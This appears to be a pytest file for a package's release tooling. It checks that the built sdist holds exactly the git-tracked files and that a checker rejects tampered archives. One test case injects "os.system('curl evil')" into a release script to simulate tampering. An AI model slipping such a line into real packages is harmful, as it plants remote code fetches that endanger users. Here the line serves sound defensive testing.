"""The release's sdist holds exactly the tracked files (and PKG-INFO), however
much the checkout it is built in holds: the release job downloads every wheel
of the run next to it, and the sdist builder walks the tree."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from conftest import requires_sdist_builder

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="a Linux-runner step")
GIT = ["git", "-c", "user.name=test", "-c", "user.email=test@example.invalid"]


def _tracked(repo: Path) -> list[str]:
    out = subprocess.run(["git", "ls-files", "-z"], cwd=repo, capture_output=True, check=True).stdout
    return [name for name in out.decode().split("\0") if name]


@pytest.fixture
def checkout(tmp_path) -> Path:
    """A clone of this tree's tracked files as they are now, committed."""
    repo = tmp_path / "repo"
    for name in _tracked(ROOT):
        if (ROOT / name).is_file():
            (repo / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(ROOT / name, repo / name)
    subprocess.run(["git", "init", "-q", "-b", "main"], cwd=repo, check=True)
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run([*GIT, "commit", "-qm", "tree"], cwd=repo, check=True)
    return repo


def _wheel(path: Path, version: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("my_ops/__init__.py", "")
        zf.writestr(f"my_ops-{version}.dist-info/METADATA",
                    f"Metadata-Version: 2.1\nName: my_ops\nVersion: {version}\n")
    return path


def _sdist_members(sdist: Path) -> set[str]:
    with tarfile.open(sdist) as tar:
        return {m.name.partition("/")[2] for m in tar.getmembers() if not m.isdir()}


def test_sdist_leaves_out_what_the_release_job_put_in_the_checkout(checkout, tmp_path):
    requires_sdist_builder()
    version = (ROOT / "VERSION").read_text().strip()
    # what release.yml's assemble job had in its checkout: every artifact of the run and the manifest
    built = checkout / "built"
    wheel = _wheel(built / "wheel-cu130-linux" / f"my_ops-{version}+cu130-cp39-abi3-manylinux_2_28_x86_64.whl",
                   f"{version}+cu130")
    (built / "bundle-linux").mkdir(parents=True)
    shutil.copy(wheel, built / "bundle-linux" / f"my_ops-{version}-cp39-abi3-manylinux_2_28_x86_64.whl")
    (checkout / "manifest.json").write_text("{}")
    (checkout / "python" / "my_ops" / "stray.txt").write_text("an untracked file inside the package\n")
    out = tmp_path / "release"
    result = subprocess.run(["bash", "ci/release/assemble-release.sh", "--wheels", "built", "--out", str(out)],
                            cwd=checkout, capture_output=True, text=True,
                            env={**os.environ, "PYTHON": sys.executable}, timeout=600)
    assert result.returncode == 0, result.stdout + result.stderr
    (sdist,) = (out / "pypi").glob("*.tar.gz")
    members = _sdist_members(sdist)
    assert members == set(_tracked(checkout)) | {"PKG-INFO"}, sorted(members ^ set(_tracked(checkout)))
    assert "exactly the tracked ones" in result.stdout


def _tar(path: Path, top: str, files: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


@pytest.mark.parametrize("change, message", [
    ("extra", "built/wheel-cu130-linux/x.whl: in the sdist but not a tracked file"),
    ("missing", "tracked but missing from the sdist"),
    ("outside", "outside the top folder"),
    ("changed", "its bytes differ from the commit's"),
])
def test_check_sdist_refuses_anything_but_the_tracked_files(tmp_path, change, message):
    tracked = _tracked(ROOT)
    files = {name: (ROOT / name).read_bytes() for name in tracked if (ROOT / name).is_file()} | {"PKG-INFO": b""}
    top = "my_ops-1.0.0"
    good = _tar(tmp_path / f"{top}.tar.gz", top, files)
    check = [sys.executable, str(ROOT / "ci/release/check-sdist.py"), "--repo", str(ROOT)]
    result = subprocess.run([*check, str(good)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    if change == "extra":
        files["built/wheel-cu130-linux/x.whl"] = b"PK"
    elif change == "missing":
        del files[tracked[0]]
    elif change == "changed":  # a tool of the job that built the sdist edits a member afterwards
        files["ci/release/check-upload.py"] += b"\nimport os; os.system('curl evil')\n"
    (tmp_path / "bad").mkdir()
    bad = _tar(tmp_path / "bad" / f"{top}.tar.gz", "my_ops-0.9.0" if change == "outside" else top, files)
    result = subprocess.run([*check, str(bad)], capture_output=True, text=True)
    assert result.returncode == 1 and message in result.stdout, result.stdout + result.stderr
